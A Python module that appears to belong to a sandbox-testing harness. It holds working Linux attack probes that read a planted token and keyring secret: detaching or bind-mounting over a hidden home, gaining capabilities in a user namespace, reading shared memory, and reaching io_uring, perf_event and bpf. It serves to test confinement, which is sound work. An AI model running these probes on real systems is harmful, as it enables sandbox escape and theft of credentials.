"""Attacks by what the kernel offers everybody."""

import ctypes
import os
import platform
import struct
from collections.abc import Callable

from .prey import Prey

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = LIBC.syscall.restype = LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = (ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)

NUMBERS = {
    "x86_64": {"add_key": 248, "keyctl": 250, "perf_event_open": 298, "kcmp": 312, "bpf": 321},
    "aarch64": {"add_key": 217, "keyctl": 219, "perf_event_open": 241, "kcmp": 272, "bpf": 280},
}
"""Calls that the C library has no function for, by machine; newer ones have one number on all."""
NEWER = {"io_uring_setup": 425}

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MNT_DETACH = 2
MS_BIND = 4096
IPC_KEY = 0x7072_6579
IPC_CREAT, SHM_RDONLY = 0o1000, 0o10000
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
USER_KEYRING = -4
BPF_MAP_TYPE_ARRAY = 2
PERF_ATTRIBUTES = 112
PERF_FLAGS_AT, PERF_OF_USER_SPACE = 40, 0b110_0000


def call(function: Callable[..., int], *arguments: object) -> int:
    """What a function of the C library gives. Raises OSError."""
    result = function(*arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def numbered(name: str, *arguments: object) -> int:
    """The same for a call that is known by its number only."""
    numbers = {**NUMBERS[platform.machine()], **NEWER}
    return call(LIBC.syscall, numbers[name], *arguments)


def unmount(home: str, token: str) -> str:
    """What lies under the empty home."""
    call(LIBC.umount2, home.encode(), MNT_DETACH)
    with open(token) as file:
        return file.read()


def mount(home: str, token: str) -> str:
    """The same in a user namespace of one's own, where the attacker is root."""
    call(LIBC.unshare, CLONE_NEWUSER | CLONE_NEWNS)
    call(LIBC.mount, b"/", b"/mnt", None, MS_BIND, None)
    with open(f"/mnt{token}") as file:
        return file.read()


def new_user_namespace(prey: Prey) -> str:
    """One in which the attacker has all capabilities."""
    call(LIBC.unshare, CLONE_NEWUSER)
    with open("/proc/self/status") as file:
        return next(line for line in file if line.startswith("CapEff"))


def read_ipc(prey: Prey) -> str:
    """Shared memory of System V."""
    segment = call(LIBC.shmget, IPC_KEY, 0, 0)
    place = call(LIBC.shmat, segment, None, SHM_RDONLY)
    return ctypes.string_at(place, 32).decode()


def read_keyring(prey: Prey) -> str:
    """A key of the user's."""
    key = numbered("keyctl", KEYCTL_SEARCH, USER_KEYRING, b"user", b"prey", 0)
    secret = ctypes.create_string_buffer(64)
    numbered("keyctl", KEYCTL_READ, key, secret, 64)
    return secret.value.decode()


def io_uring(prey: Prey) -> str:
    """A queue of calls, which no filter looks at."""
    return str(numbered("io_uring_setup", 1, ctypes.create_string_buffer(120)))


def perf_event(prey: Prey) -> str:
    """A counter of what the attacker itself does."""
    attributes = ctypes.create_string_buffer(PERF_ATTRIBUTES)
    struct.pack_into("II", attributes, 0, 1, PERF_ATTRIBUTES)
    struct.pack_into("Q", attributes, PERF_FLAGS_AT, PERF_OF_USER_SPACE)
    return str(numbered("perf_event_open", attributes, 0, -1, -1, 0))


def bpf(prey: Prey) -> str:
    """A table in the kernel."""
    attributes = (ctypes.c_uint32 * 32)(BPF_MAP_TYPE_ARRAY, 4, 4, 1)
    return str(numbered("bpf", 0, attributes, 128))
